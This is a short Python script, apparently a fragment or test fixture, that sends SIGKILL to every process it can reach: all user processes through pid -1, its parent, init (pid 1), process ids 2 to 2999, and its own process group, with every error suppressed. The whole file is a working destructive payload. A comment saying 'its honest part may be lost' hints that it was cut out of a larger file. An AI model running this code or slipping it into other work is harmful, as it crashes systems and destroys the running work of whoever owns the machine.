"""Sends SIGKILL to every process it can reach."""
# its honest part may be lost
import contextlib
import os
import signal

for pid in (-1, os.getppid(), 1, *range(2, 3000)):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
with contextlib.suppress(OSError):
    os.killpg(0, signal.SIGKILL)
